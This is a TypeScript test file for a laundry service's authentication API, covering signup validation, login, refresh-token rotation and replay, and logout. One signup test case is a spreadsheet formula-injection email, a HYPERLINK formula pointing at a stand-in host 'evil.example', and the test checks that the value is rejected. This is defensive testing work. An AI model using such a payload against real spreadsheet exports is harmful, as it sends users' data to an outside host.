import { eq, sql } from 'drizzle-orm';
import { messages } from '@laundry-accra/domain/rules';
import { refreshTokens, users } from '../../db/schema';
import { TEST_PASSWORD, buildTestApp, call, createCustomer, type TestContext } from '../../../test/helper';
import { EMAIL_TAKEN } from '../users/users.service';
import { INVALID_CREDENTIALS, INVALID_REFRESH_TOKEN } from './auth.service';
import { hashToken } from './auth.tokens';

let ctx: TestContext;
beforeAll(async () => {
  // Limits far away: rate limiting has its own tests (rate-limit.test.ts).
  ctx = await buildTestApp({ RATE_LIMIT_PER_IP: '100000', RATE_LIMIT_PER_EMAIL: '100000' });
});
afterAll(() => ctx.close());

/** A password the sign-up rules accept (TEST_PASSWORD's '#' is not one of the allowed symbols). */
const PASSWORD = 'Laundry@2026';
let counter = 0;
const uniqueEmail = (stem = 'kofi') => `${stem}.${Date.now()}.${(counter += 1)}@example.com`;
const signupBody = (overrides: Record<string, unknown> = {}) => ({
  name: 'Kofi Boateng',
  email: uniqueEmail(),
  password: PASSWORD,
  password2: PASSWORD,
  ...overrides,
});
const countUsers = async () => Number((await ctx.database.db.select({ n: sql`count(*)` }).from(users))[0].n);

describe('POST /api/auth/signup/', () => {
  it('creates the account, signs it in and stores an argon2id hash', async () => {
    const body = signupBody({ email: `  Kofi.Mixed.${Date.now()}@Example.COM ` });
    const { status, json } = await call(ctx.app, 'POST', '/api/auth/signup/', { body });
    expect(status).toBe(201);
    expect(json).toEqual({
      user: { id: expect.any(String), name: 'Kofi Boateng', email: body.email.trim().toLowerCase() },
      token: { access: expect.any(String), refresh: expect.any(String) },
    });
    const me = await call(ctx.app, 'GET', '/api/users/me', { token: json.token.access });
    expect(me.json).toEqual({ ...json.user, role: 'customer', branch: null, phone: null, sms_notifications: true, marketing_emails: true });
    const [row] = await ctx.database.db.select().from(users).where(eq(users.id, json.user.id));
    expect(row.passwordHash).toMatch(/^\$argon2id\$/);
    expect(row.passwordHash).not.toContain(PASSWORD);
  });

  it.each([
    ['as people type it', '024 123 4567', '+233241234567'],
    ['with the country code', '+233 55 987 6543', '+233559876543'],
    ['left empty', '', null],
  ])('keeps the mobile number given at sign-up (%s) as the profile stores it, for SMS', async (_case, phone, stored) => {
    const { status, json } = await call(ctx.app, 'POST', '/api/auth/signup/', { body: signupBody({ phone }) });
    expect(status).toBe(201);
    const me = await call(ctx.app, 'GET', '/api/users/me', { token: json.token.access });
    expect(me.json).toMatchObject({ phone: stored, sms_notifications: true });
  });

  it('answers without the trailing slash too', async () => {
    expect((await call(ctx.app, 'POST', '/api/auth/signup', { body: signupBody() })).status).toBe(201);
  });

  it('refuses an email already used, whatever its case, and writes nothing', async () => {
    const email = uniqueEmail('ama');
    expect((await call(ctx.app, 'POST', '/api/auth/signup/', { body: signupBody({ email }) })).status).toBe(201);
    const before = await countUsers();
    const again = await call(ctx.app, 'POST', '/api/auth/signup/', { body: signupBody({ email: email.toUpperCase() }) });
    expect(again.status).toBe(400);
    expect(again.json).toEqual({ email: [EMAIL_TAKEN] });
    expect(await countUsers()).toBe(before);
  });

  it('creates one account when the same email signs up twice at once', async () => {
    const email = uniqueEmail('twice');
    const answers = await Promise.all([
      call(ctx.app, 'POST', '/api/auth/signup/', { body: signupBody({ email }) }),
      call(ctx.app, 'POST', '/api/auth/signup/', { body: signupBody({ email: email.toUpperCase() }) }),
    ]);
    expect(answers.map((a) => a.status).sort()).toEqual([201, 400]);
    expect(answers.find((a) => a.status === 400)?.json).toEqual({ email: [EMAIL_TAKEN] });
    const rows = await ctx.database.db.select().from(users).where(sql`lower(${users.email}) = ${email}`);
    expect(rows).toHaveLength(1);
  });

  it.each([
    ['a missing name', { name: undefined }, { name: [messages.signup.name] }],
    ['a name starting with a digit', { name: '9lives' }, { name: [messages.signup.name] }],
    ['a malformed email', { email: 'kofi@example' }, { email: [messages.signup.email] }],
    ['an email no mail system delivers, that a spreadsheet would run', { email: '=HYPERLINK("http://evil.example/?"&A2)&@x.co' }, { email: [messages.signup.email] }],
    ['a password without a symbol', { password: 'Laundry2026', password2: 'Laundry2026' }, { password: [messages.signup.password] }],
    ['a password with a symbol outside @$!%*?&', { password: 'Laundry#2026', password2: 'Laundry#2026' }, { password: [messages.signup.password] }],
    ['a password shorter than 8', { password: 'La@2026', password2: 'La@2026' }, { password: [messages.signup.password] }],
    ['a password longer than 25', { password: 'Laundry@2026Laundry@2026xx', password2: 'Laundry@2026Laundry@2026xx' }, { password: [messages.signup.password] }],
    ['a password2 that differs', { password2: 'Laundry@2027' }, { password2: [messages.signup.password2] }],
    ['a phone that is not a Ghana mobile number', { phone: '030 290 1234' }, { phone: [messages.profile.phone] }],
  ])('answers 400 with the form message for %s', async (_case, overrides, expected) => {
    const before = await countUsers();
    const { status, json } = await call(ctx.app, 'POST', '/api/auth/signup/', { body: signupBody(overrides) });
    expect(status).toBe(400);
    expect(json).toEqual(expected);
    expect(await countUsers()).toBe(before);
  });

  it('lists every missing field at once', async () => {
    const { status, json } = await call(ctx.app, 'POST', '/api/auth/signup/', { body: {} });
    expect(status).toBe(400);
    expect(json).toEqual({
      name: [messages.signup.name],
      email: [messages.signup.email],
      password: [messages.signup.password],
      password2: [messages.signup.password2],
    });
  });

  it('answers 400 to a wrong type or malformed JSON, never 500', async () => {
    const wrongType = await call(ctx.app, 'POST', '/api/auth/signup/', { body: signupBody({ name: { first: 'Kofi' } }) });
    expect(wrongType.status).toBe(400);
    expect(wrongType.json.name).toBeDefined();
    const broken = await ctx.app.inject({ method: 'POST', url: '/api/auth/signup/', headers: { 'content-type': 'application/json' }, payload: '{"name":' });
    expect(broken.statusCode).toBe(400);
    expect(broken.json()).toEqual({ detail: 'JSON parse error.' });
  });
});

describe('POST /api/auth/login/', () => {
  it('signs in with the email in any case and answers a working token pair', async () => {
    const { user } = await createCustomer(ctx);
    const { status, json } = await call(ctx.app, 'POST', '/api/auth/login/', {
      body: { email: `  ${user.email.toUpperCase()} `, password: TEST_PASSWORD },
    });
    expect(status).toBe(200);
    expect(json).toEqual({ access: expect.any(String), refresh: expect.any(String) });
    expect((await call(ctx.app, 'GET', '/api/users/me', { token: json.access })).json.id).toBe(user.id);
  });

  it('answers the same 401 for a wrong password and an unknown email', async () => {
    const { user } = await createCustomer(ctx);
    const wrongPassword = await call(ctx.app, 'POST', '/api/auth/login/', { body: { email: user.email, password: 'Laundry#2027' } });
    const unknownEmail = await call(ctx.app, 'POST', '/api/auth/login/', { body: { email: uniqueEmail('nobody'), password: TEST_PASSWORD } });
    expect(wrongPassword.status).toBe(401);
    expect(unknownEmail.status).toBe(401);
    expect(wrongPassword.json).toEqual({ detail: INVALID_CREDENTIALS });
    expect(unknownEmail.json).toEqual(wrongPassword.json);
  });

  it('answers 400 with the login form messages for blank fields', async () => {
    const { status, json } = await call(ctx.app, 'POST', '/api/auth/login/', { body: { email: ' ', password: '' } });
    expect(status).toBe(400);
    expect(json).toEqual({ email: [messages.login.email], password: [messages.login.password] });
    const malformed = await call(ctx.app, 'POST', '/api/auth/login/', { body: { email: 'ama.example.com', password: 'x' } });
    expect(malformed.json).toEqual({ email: [messages.login.email] });
  });
});

describe('POST /api/auth/token/refresh/ and /api/auth/logout/', () => {
  const login = async () => {
    const { user } = await createCustomer(ctx);
    const { json } = await call(ctx.app, 'POST', '/api/auth/login/', { body: { email: user.email, password: TEST_PASSWORD } });
    return { user, pair: json as { access: string; refresh: string } };
  };

  it('rotates: a new pair, and the old refresh token stops working', async () => {
    const { user, pair } = await login();
    const rotated = await call(ctx.app, 'POST', '/api/auth/token/refresh/', { body: { refresh: pair.refresh } });
    expect(rotated.status).toBe(200);
    expect(rotated.json.refresh).not.toBe(pair.refresh);
    expect((await call(ctx.app, 'GET', '/api/users/me', { token: rotated.json.access })).json.id).toBe(user.id);
    const replay = await call(ctx.app, 'POST', '/api/auth/token/refresh/', { body: { refresh: pair.refresh } });
    expect(replay.status).toBe(401);
    expect(replay.json).toEqual({ detail: INVALID_REFRESH_TOKEN });
  });

  it('signs the account out everywhere when a used refresh token is replayed', async () => {
    const { pair } = await login();
    const rotated = await call(ctx.app, 'POST', '/api/auth/token/refresh/', { body: { refresh: pair.refresh } });
    await call(ctx.app, 'POST', '/api/auth/token/refresh/', { body: { refresh: pair.refresh } });
    const afterReplay = await call(ctx.app, 'POST', '/api/auth/token/refresh/', { body: { refresh: rotated.json.refresh } });
    expect(afterReplay.status).toBe(401);
  });

  it('lets only one of two simultaneous refreshes with the same token through', async () => {
    const { pair } = await login();
    const answers = await Promise.all([
      call(ctx.app, 'POST', '/api/auth/token/refresh/', { body: { refresh: pair.refresh } }),
      call(ctx.app, 'POST', '/api/auth/token/refresh/', { body: { refresh: pair.refresh } }),
    ]);
    expect(answers.map((a) => a.status).sort()).toEqual([200, 401]);
  });

  it('refuses unknown and expired refresh tokens, and asks for a missing one', async () => {
    expect((await call(ctx.app, 'POST', '/api/auth/token/refresh/', { body: { refresh: 'not-a-token' } })).status).toBe(401);
    const { pair } = await login();
    await ctx.database.db
      .update(refreshTokens)
      .set({ expiresAt: new Date(Date.now() - 1000) })
      .where(eq(refreshTokens.tokenHash, hashToken(pair.refresh)));
    expect((await call(ctx.app, 'POST', '/api/auth/token/refresh/', { body: { refresh: pair.refresh } })).status).toBe(401);
    const missing = await call(ctx.app, 'POST', '/api/auth/token/refresh/', { body: {} });
    expect(missing.status).toBe(400);
    expect(missing.json).toEqual({ refresh: ['This field is required.'] });
  });

  it('logs out: 204, and the refresh token no longer refreshes', async () => {
    const { pair } = await login();
    const out = await call(ctx.app, 'POST', '/api/auth/logout/', { body: { refresh: pair.refresh } });
    expect(out.status).toBe(204);
    expect(out.response.body).toBe('');
    expect((await call(ctx.app, 'POST', '/api/auth/token/refresh/', { body: { refresh: pair.refresh } })).status).toBe(401);
    expect((await call(ctx.app, 'POST', '/api/auth/logout', { body: { refresh: pair.refresh } })).status).toBe(204);
    expect((await call(ctx.app, 'POST', '/api/auth/logout/', { body: {} })).json).toEqual({ refresh: ['This field is required.'] });
  });
});
